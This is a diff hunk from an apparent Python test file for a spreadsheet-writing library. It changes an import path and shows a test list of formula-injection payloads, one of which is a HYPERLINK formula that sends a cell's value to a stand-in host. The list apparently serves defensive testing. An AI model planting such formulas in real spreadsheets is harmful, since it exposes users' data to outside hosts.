@@ -12,7 +12,7 @@ import docx
 import openpyxl
 from hostile import ROOT, run_cli
 
-from xltools.workbook import write_workbook
+from xltools.workbook.writer import write_workbook
 
 ATTACKS = ("=HYPERLINK(\"http://example.invalid/?\"&A1,\"点此查看\")", "=NOW()", "+1+1", "@SUM(A1)",
            "-2+3")
